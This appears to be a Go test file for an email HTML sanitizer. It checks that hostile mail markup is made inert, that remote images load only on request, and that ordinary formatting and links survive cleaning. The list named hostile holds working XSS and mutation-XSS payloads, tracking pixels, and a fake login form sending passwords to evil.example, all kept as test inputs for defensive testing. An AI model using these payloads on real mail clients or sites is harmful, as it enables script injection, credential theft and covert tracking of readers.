package message

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"
)

// hostile is what mails have carried to run scripts, to load what tells the
// sender that they were read, or to break out of where they are shown.
var hostile = []string{
	`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<iframe src="javascript:alert(1)"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="https://evil.example/x.swf">`, `<a href="javascript:alert(1)">x</a>`, `<a href="jAvAsCrIpT&colon;alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="vbscript:x">x</a>`,
	`<form action="https://evil.example"><input name=password><button>Log in</button></form>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<style>@import "https://evil.example/x.css";</style>`, `<style>body{background:url(https://evil.example/p.png)}</style>`,
	`<div style="background:url(https://evil.example/p.png)">x</div>`,
	`<div style="background-image:url('https://evil.example/p.png')">x</div>`,
	`<p style="width:expression(alert(1))">x</p>`, `<p style="color:red;background:u\72l(https://evil.example/p.png)">x</p>`,
	`<p style="font-family:x;behavior:url(#x)">x</p>`,
	`<table background="https://evil.example/p.png"><tr><td background="https://evil.example/q.png">x</td></tr></table>`,
	`<body background="https://evil.example/p.png" onload=alert(1)>x`,
	`<img src="https://evil.example/pixel.gif" width=1 height=1>`, `<img srcset="https://evil.example/pixel.gif 1x">`,
	`<img src="//evil.example/p.png">`, `<picture><source srcset="https://evil.example/p.png"><img></picture>`,
	`<svg><filter id=f><feImage href="https://evil.example/p.png"/></filter></svg>`,
	`<svg><image xlink:href="https://evil.example/p.png"/></svg>`,
	`<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>`,
	`<audio src="https://evil.example/a.mp3">`, `<input type=image src="https://evil.example/p.png">`,
	`<bgsound src="https://evil.example/a.mid">`, `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<template><img src=x onerror=alert(1)></template>`,
	`<img alt="<script>alert(1)</script>" src="https://evil.example/p.png">`,
	`<a href="https://x.example" target="_self" onclick="alert(1)">x</a>`, `<div id="login" class="modal" name="x">x</div>`,
	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`,
	`<p><img src="cid:none@x"></p>`, "<img src=x\x00 onerror=alert(1)>", `<<script>alert(1);//<</script>`,
	`<img """><script>alert(1)</script>">`, `<xmp><img src=x onerror=alert(1)></xmp>`, `<title><img src=x onerror=alert(1)></title>`,
	`<select><style><img src=x onerror=alert(1)></style></select>`,
}

// harmless fails on anything in cleaned HTML that acts or loads.
func harmless(t *testing.T, source, safe string) {
	t.Helper()
	z := html.NewTokenizer(strings.NewReader(safe))
	for z.Next() != html.ErrorToken {
		tok := z.Token()
		if tok.Type != html.StartTagToken && tok.Type != html.SelfClosingTagToken {
			continue
		}
		require.NotContains(t, []string{"script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "meta",
			"base", "link", "video", "audio", "source",
			"picture", "noscript", "template", "textarea", "select", "title", "xmp"}, tok.Data, source)
		for _, a := range tok.Attr {
			require.False(t, strings.HasPrefix(a.Key, "on"), source)
			require.NotContains(t, []string{"id", "class", "name", "srcset", "background", "srcdoc", "action", "poster"}, a.Key, source)
			v := strings.ToLower(a.Val)
			require.False(t, strings.Contains(v, "javascript:") || strings.Contains(v, "vbscript:") || strings.Contains(v,
				"url(") || strings.Contains(v, "expression"), source)
			if a.Key == "src" {
				require.NotContains(t, v, "evil.example", source)
				require.NotContains(t, v, "svg", source)
			}
			if a.Key == "href" {
				require.False(t, strings.HasPrefix(v, "data:"), source)
			}
		}
		if tok.Data == "a" && len(tok.Attr) > 0 {
			require.Contains(t, tok.String(), "nofollow", source)
		}
	}
}

// Whatever a mail brings is inert, loads nothing until asked, and stays so when
// it is cleaned again.
func TestMailHTMLIsInert(t *testing.T) {
	for _, source := range hostile {
		for _, wrapped := range []string{source, "<div>" + source + "</div>", "<table><tr><td>" + source, source + source} {
			safe, _ := Clean(wrapped, NoRemote, nil)
			harmless(t, wrapped, safe)
			again, _ := Clean(safe, NoRemote, nil)
			require.Equal(t, safe, again, "cleaning twice: %s", wrapped)
		}
	}
}

// Pictures from elsewhere are off until a person asks, and then only those of
// https addresses; the mail's own are shown under the address that the host gives.
func TestRemoteImagesAreOff(t *testing.T) {
	source := `<p><img src="https://shop.example/logo.png" alt="Logo"> <img src="http://shop.example/p.gif"> <img src="cid:one@x" ` +
		`width="10"> <img src="cid:gone"></p>`
	cid := func(id string) string {
		if id == "one@x" {
			return "/files/1"
		}
		return ""
	}
	safe, hidden := Clean(source, NoRemote, cid)
	require.Equal(t, 3, hidden)
	require.NotContains(t, safe, "shop.example")
	require.Contains(t, safe, `src="/files/1"`)
	require.Contains(t, safe, "[Logo]")
	safe, hidden = Clean(source, Remote, cid)
	require.Equal(t, 2, hidden)
	require.Contains(t, safe, `src="https://shop.example/logo.png"`)
	require.NotContains(t, safe, "http://")
}

// What is stored for later loads nothing by itself, and shows when it is asked for.
func TestPicturesWaitUntilTheyAreAskedFor(t *testing.T) {
	stored, hidden := Clean(`<img src="https://shop.example/logo.png" alt="Logo" width="10"><img src="http://shop.example/p.gif"><img `+
		`src="cid:one">`, Later, func(cid string) string { return "cid:" + cid })
	require.Equal(t, 2, hidden)
	require.NotContains(t, stored, `src="https:`)
	require.NotContains(t, stored, "http:")
	again, _ := Clean(stored, Later, func(cid string) string { return "cid:" + cid })
	require.Equal(t, stored, again)
	off, hidden := Clean(stored, NoRemote, nil)
	require.Equal(t, 1, hidden)
	require.NotContains(t, off, "shop.example")
	on, hidden := Clean(stored, Remote, func(cid string) string { return "data:image/png;base64,AAAA" })
	require.Zero(t, hidden)
	require.Contains(t, on, `src="https://shop.example/logo.png"`)
	require.Contains(t, on, `width="10"`)
	require.Contains(t, on, "data:image/png;base64,AAAA")
}

// What people write stays as it looks.
func TestCleaningKeepsWhatPeopleWrite(t *testing.T) {
	safe, _ := Clean(`<div style="color:#ff0000;font-family:'Malgun Gothic',sans-serif">안녕 <b>하세요</b> <a `+
		`href="https://x.example/a?b=1&c=2">link</a></div><table border="1"><tr><td colspan="2">1</td></tr></table>`, NoRemote, nil)
	for _, want := range []string{"color: #ff0000", "<b>하세요</b>", `href="https://x.example/a?b=1&amp;c=2"`, `colspan="2"`,
		"noreferrer", `target="_blank"`} {
		require.Contains(t, safe, want)
	}
}

// FuzzParse: no mail, whatever its bytes, makes the parser fail, say something
// that is no text, or fold what is not there; and its HTML is inert.
func FuzzParse(f *testing.F) {
	for _, c := range broken {
		f.Add([]byte(c.raw))
	}
	for _, s := range hostile {
		f.Add([]byte("From: a@example.com\nContent-Type: text/html\n\n" + s))
	}
	f.Add([]byte("Subject: =?ks_c_5601-1987?B?vsiz58fPvLy/5A==?=\nContent-Type: text/plain; " +
		"charset=iso-2022-kr\n\n\x1B$)C\x0E>H3g\x0F\n> x\n-- \ny"))
	f.Fuzz(func(t *testing.T, raw []byte) {
		if len(raw) > 64<<10 {
			return
		}
		before := string(raw)
		m := Parse(raw, Options{AuthServers: []string{"mx"}, Own: []string{"a@example.com"}})
		require.Equal(t, before, string(raw), "the caller's bytes are as they were")
		require.True(t, validUTF8(m.Text, m.Subject, m.HTML, m.From.Name))
		at := 0
		for _, fold := range m.Folds {
			require.True(t, fold.Start >= at && fold.Length > 0 && fold.Start+fold.Length <= len(m.Text))
			at = fold.Start + fold.Length
		}
		require.NotEmpty(t, m.Kind)
		require.NotContains(t, m.Subject, "\n")
		for _, file := range m.Files {
			require.NotEmpty(t, file.Name)
			require.NotContains(t, file.Name, "/")
		}
		safe, _ := Clean(m.HTML, NoRemote, nil)
		harmless(t, m.HTML, safe)
	})
}

// A link leads to where its sender says in full, never to a page of the desk.
func TestLinksOfAMailAreWhole(t *testing.T) {
	for source, want := range map[string]string{
		`<a href="/desk/setup?warn=x">a</a>`: "a", `<a href="?x">a</a>`: "a", `<a href="#top">a</a>`: "a",
		`<a href="//evil.test">a</a>`: "a",
		`<a href="cid:x">a</a>`:       "a", `<a href="\\evil.test">a</a>`: "a", `<a href="http:relative">a</a>`: "a",
	} {
		for _, images := range []Images{NoRemote, Remote, Later} {
			got, _ := Clean(source, images, nil)
			require.Equal(t, want, got, source)
		}
	}
	got, _ := Clean(`<a href="HTTPS://shop.example/a">a</a><a href="mailto:a@b.example">b</a><a href="tel:+82">c</a>`, NoRemote, nil)
	require.Equal(t, 3, strings.Count(got, "<a "), got)
}
